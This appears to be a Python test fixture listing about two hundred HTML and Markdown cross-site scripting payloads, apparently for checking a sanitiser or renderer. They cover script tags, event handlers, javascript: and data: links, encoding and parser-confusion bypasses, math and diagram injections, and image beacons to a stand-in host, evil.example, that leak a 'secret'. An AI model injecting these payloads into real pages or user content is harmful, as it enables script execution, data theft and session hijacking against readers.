"""Text that tries to run script in a reader's page, or to make the browser tell somebody something."""

_HTML = r'''
<script>alert(1)</script>
<script src=https://evil.example/x.js></script>
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="https://evil.example/?d=secret">
<img srcset="https://evil.example/1 1x">
<img src=x:x onerror\n=alert(1)>
<picture><source srcset=https://evil.example></picture>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href=https://evil.example/i></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=https://evil.example></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example>
<link rel=dns-prefetch href=//secret.evil.example>
<link rel=preconnect href=https://evil.example>
<link rel=modulepreload href=https://evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href=https://evil.example/>
<style>@import url(https://evil.example)</style>
<style>*{background:url(https://evil.example)}</style>
<div style="background:url(https://evil.example)">x</div>
<div style="width:expression(alert(1))">x</div>
<p style=position:fixed;inset:0>x</p>
<table background=https://evil.example><tr><td background=https://evil.example>x</table>
<body onload=alert(1)>
<body background=https://evil.example>
<input onfocus=alert(1) autofocus>
<input type=image src=https://evil.example formaction=javascript:alert(1)>
<input type=password name=password>
<form action=https://evil.example><button>go</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<button onclick=alert(1)>x</button>
<button type=submit form=logout>x</button>
<select onfocus=alert(1) autofocus></select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<video src=https://evil.example onerror=alert(1)></video>
<video poster=https://evil.example></video>
<video><source onerror=alert(1)></video>
<audio src=https://evil.example onerror=alert(1)></audio>
<track src=https://evil.example>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="https://x.example" ping="https://evil.example">x</a>
<a href=# onclick=alert(1)>x</a>
<a id=location name=location>x</a>
<a href=https://evil.example download>x</a>
<a href="//evil.example" target=_top rel=opener>x</a>
<area href=javascript:alert(1)>
<map><area href=javascript:alert(1)></map>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<plaintext><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
<textarea></textarea><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x onclick=alert(1)>
<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example">]>
</p><script>alert(1)</script>
</code></pre><script>alert(1)</script>
</div></div></div><div class=site-header>x</div>
<div class="composer" id="composer" data-controller=x hx-get=/admin hx-trigger=load>x</div>
<div hx-on:click=alert(1)>x</div>
<x-element onfocus=alert(1) tabindex=0 autofocus>x</x-element>
<span onmouseover=alert(1)>x</span>
<span class="code-copy" data-copy-code>x</span>
<dialog open>x</dialog>
<portal src=https://evil.example></portal>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<bgsound src=https://evil.example>
<layer src=https://evil.example></layer>
<fencedframe src=https://evil.example></fencedframe>
<img src=x onerror=alert(1)//
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img """><script>alert(1)</script>">
<a href="https://x.example/"onclick=alert(1)>x</a>
<\0script>alert(1)</script>
<img src=`x`onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
＜script＞alert(1)＜/script＞
'''
_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java\script:alert(1))
[x](<java script:alert(1)>)
[x](\x01javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](vbscript:alert(1))
[x](file:///etc/passwd)
[x](blob:https://x/1)
[x](view-source:https://x)
[x](intent://x#Intent;end)
[x](//evil.example)
[x](\\evil.example)
[x](/accounts/logout/)
[x](https://x.example "t\" onmouseover=alert(1) x=\"")
[x](https://x.example/"onmouseover="alert(1))
[x](<https://x.example/"><script>alert(1)</script>>)
[x]: javascript:alert(1)\n\n[x]
[x]: https://e.example '"><script>alert(1)</script>'\n\n[x]
<javascript:alert(1)>
<https://x.example/"onclick=alert(1)>
<data:text/html,x>
![x](https://evil.example/?d=secret)
![x](//evil.example/i)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](data:image/png;base64,AAAA)
![x" onerror="alert(1)](https://evil.example/i)
![x](https://evil.example/i "t\" onerror=alert(1)")
![x][r]\n\n[r]: https://evil.example/i?d=secret
![r]\n\n[r]: <https://evil.example/i"onerror=alert(1)>
[![x](https://evil.example/i)](https://evil.example/j)
![a ![b](https://evil.example/b) c](https://evil.example/a)
![[x](javascript:alert(1))](https://evil.example)
| a |\n|---|\n| ![x](https://evil.example/t) |
| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |
a[^x]\n\n[^x]: ![x](https://evil.example/f)
a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: <script>alert(1)</script>
a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: b
> ![x](https://evil.example/q)
- ![x](https://evil.example/l)
# ![x](https://evil.example/h)
~~![x](https://evil.example/s)~~
```"><script>alert(1)</script>\nx\n```
```html\n<script>alert(1)</script>\n```
```js"onclick="alert(1)\nx\n```
```svg\n<svg onload=alert(1)>\n```
```mermaid\ngraph TD; a-->b; click a "javascript:alert(1)"\n```
~~~ <img src=x onerror=alert(1)>\nx\n~~~
    <script>alert(1)</script>
`<script>alert(1)</script>`
``<img src=x onerror=alert(1)>``
$\href{javascript:alert(1)}{x}$
$\url{javascript:alert(1)}$
$\includegraphics{https://evil.example/i}$
$\text{<script>alert(1)</script>}$
$\text{</mtext></math><img src=x onerror=alert(1)>}$
$\html{<img src=x onerror=alert(1)>}$
$\class{code-copy}{x}$ $\cssId{composer}{x}$ $\style{background:url(//evil.example)}{x}$
$\color{red;background:url(https://evil.example)}x$
$\htmlData{onclick=alert(1)}{x}$
$</span><script>alert(1)</script>$
$$<img src=x onerror=alert(1)>$$
\(<script>alert(1)</script>\)
$\unicode{x3c}script\unicode{x3e}$
$<svg onload=alert(1)>$
$\mathchoice{<a href=javascript:x>}{}{}{}$
- [x] <script>alert(1)</script>
- [ ](javascript:alert(1))
javascript:alert(1)
https://x.example/"><script>alert(1)</script>
www.x.example/<script>alert(1)</script>
"onclick=alert(1)"@x.example
<span data-math-style="inline">\href{javascript:alert(1)}{x}</span>
<pre><code class="language-html"><script>alert(1)</script></code></pre>
<section class="footnotes"><ol><li id="fn-1">x</li></ol></section>
"""

PAYLOADS = [
    line.replace("\\n", "\n").replace("\\0", "\0").replace("\\x01", "\x01")
    for line in (_HTML + _MARKDOWN).split("\n")
    if line
]
"""One per line above; there, backslash n, 0 and x01 stand for the characters."""
